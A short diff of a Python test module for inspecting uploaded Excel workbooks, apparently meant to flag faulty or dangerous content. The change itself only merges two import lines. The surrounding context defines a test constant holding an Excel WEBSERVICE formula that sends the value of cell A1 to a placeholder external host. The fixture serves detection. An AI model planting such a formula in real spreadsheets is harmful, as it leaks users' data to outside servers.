@@ -15,8 +15,7 @@ from openpyxl.worksheet.table import Table, TableFormula
 
 from core.files.enums import FileFault
 from core.files.inspection import workbooks, xml_parts
-from tests.contacts.rules.uploads.made import office
-from tests.contacts.rules.uploads.test_inspection import fault
+from tests.contacts.rules.uploads.made import fault, office
 
 ASKS = '_xlfn.WEBSERVICE("https://e.example/"&A1)'
 SHEET = "xl/worksheets/sheet1.xml"
